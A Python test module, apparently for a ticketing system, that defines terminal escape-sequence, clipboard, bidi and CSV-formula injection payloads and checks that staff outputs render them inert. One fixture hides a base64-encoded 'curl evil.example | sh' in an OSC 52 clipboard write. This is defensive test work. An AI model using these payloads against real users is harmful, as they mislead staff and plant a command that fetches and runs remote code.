"""Text an attacker types into a form (or a console edit) to act on the terminal, the
clipboard or the reading order of the staff member who later reads it, and the checks that
an output shows none of it raw."""
from __future__ import annotations

import csv
import io
import unicodedata

OSC_TITLE = "\x1b]0;工单已全部处理\x07"  # retitles the terminal window
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\点这里\x1b]8;;\x1b\\"  # a hidden link
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
CARRIAGE = "\r状态：已验收"  # overwrites the line printed before it
BIDI = "\u202e0101-2-3\u202c"  # shows the house number reversed
OTHERS = "\u2066\u200f\x9b31m\x7f\x08\u2028"  # isolate, RLM, C1 CSI, DEL, backspace, line separator
ALL = (OSC_TITLE, CLEAR, OSC_LINK, OSC_CLIPBOARD, CARRIAGE, BIDI, OTHERS)
TEXT = "楼道漏水" + "".join(ALL)  # one value carrying every trick, after some real text


def raw_characters(text: str) -> list[str]:
    """The characters of ``text`` that must never reach a staff output as they are: every
    control (line breaks excepted), format, bidi and separator character."""
    return [ch for ch in text if ch != "\n" and ch != "\u200d"
            and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")]


def assert_inert(output: str, what: str = "") -> None:
    """No raw control or bidi character in a terminal output, and the ones planted are
    shown as visible escapes (so the text is there, not silently dropped)."""
    assert not raw_characters(output), (what, sorted({f"U+{ord(ch):04X}" for ch in raw_characters(output)}))
    assert "\\x1b" in output, (what, "the planted escape is not shown")


def assert_inert_csv(output: str, what: str = "") -> list[list[str]]:
    """Like ``assert_inert`` for a CSV (its own CR LF line ends aside), and no cell
    Excel would read as a formula; returns the rows."""
    output = output.removeprefix("\ufeff")  # the one byte-order mark Excel needs
    assert_inert(output.replace("\r\n", "\n"), what)
    rows = list(csv.reader(io.StringIO(output)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
    return rows
